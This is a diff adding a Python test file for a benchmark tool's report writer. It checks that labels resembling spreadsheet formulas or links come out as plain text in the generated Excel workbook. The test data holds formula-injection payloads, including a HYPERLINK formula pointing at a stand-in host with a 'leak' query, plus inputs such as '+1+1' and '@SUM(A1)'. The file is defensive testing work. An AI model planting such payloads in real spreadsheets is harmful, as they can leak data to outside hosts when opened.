@@ -1,0 +1,74 @@
+"""`bench report` on hostile or odd records: labels that look like formulas, links, markup or math, and figures a
+measurement cannot give. Each must come out as written (text stays text) or as "not measured", never a traceback."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+
+from bench.report import write_report
+from bench.results import Record, RunWriter
+
+
+def ok_case(case_id: str, latency: float = 2.0, size: int = 1000, **more: Any) -> dict[str, Any]:
+    """An ok record's fields: ``latency`` ms per call at batch 1, ``size`` bytes, accuracy 0.9."""
+    fields = dict(
+        case_id=case_id,
+        latency_p50_ms=latency,
+        latency_p99_ms=latency * 1.5,
+        latency_mean_ms=latency,
+        throughput_items_per_s=1000.0 / latency if latency else 0.0,
+        model_size_bytes=size,
+        accuracy=0.9,
+        accuracy_metric="auc",
+    )
+    return fields | more
+
+
+def write_run(results: Path, cases: list[dict[str, Any]], run_id: str = "r", sections=None) -> str:
+    """A finished run of suite ``s`` holding ``cases`` (fields of :func:`ok_case`, or any record fields)."""
+    writer = RunWriter(results, run_id, {"suites": [{"name": "s", "path": "s.yaml", "sections": sections or {}}]})
+    for fields in cases:
+        identity = dict(
+            run_id=run_id,
+            suite="s",
+            model="m",
+            compression="fp32",
+            engine="eager",
+            device="cpu",
+            threads=1,
+            batch_size=1,
+            status="ok",
+        )
+        record = Record(**(identity | fields))
+        writer.append(record, [record.latency_p50_ms] * 5 if record.latency_p50_ms is not None else None)
+    writer.close("finished")
+    return run_id
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak","click")'
+LINK = "http://example.invalid/x"
+
+
+def test_labels_that_look_like_formulas_or_links_stay_text_in_the_workbook(tmp_path):
+    cases = [
+        ok_case(FORMULA, model=LINK),
+        ok_case("+1+1", model=LINK, compression="int8", latency=1.0, size=500, accuracy=0.89),
+        ok_case("@SUM(A1)", model=LINK, compression="-2+3", latency=1.5, size=600),
+    ]
+    run_id = write_run(tmp_path / "results", cases)
+    folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")
+    book = openpyxl.load_workbook(folder / "capacity.xlsx")
+    texts = {cell.value: cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    for label in (FORMULA, "+1+1", "@SUM(A1)", "-2+3", LINK):
+        assert texts.get(label) == "s", label  # written as the text it is, not as a formula
+    for sheet in book:
+        assert not sheet._hyperlinks, sheet.title  # a model name is not made a link
+    capacity = book["capacity"]
+    cells = {capacity.cell(row, 1).value: row for row in range(11, 14)}
+    assert set(cells) == {FORMULA, "+1+1", "@SUM(A1)"}
+    row = cells[FORMULA]
+    assert capacity.cell(row, 6).data_type == "f"  # the plan's own formulas stay live
+    assert capacity.cell(row, 6).value == f'=IF(AND(ISNUMBER(C{row}),C{row}<=latency_slo_ms),"yes","no")'
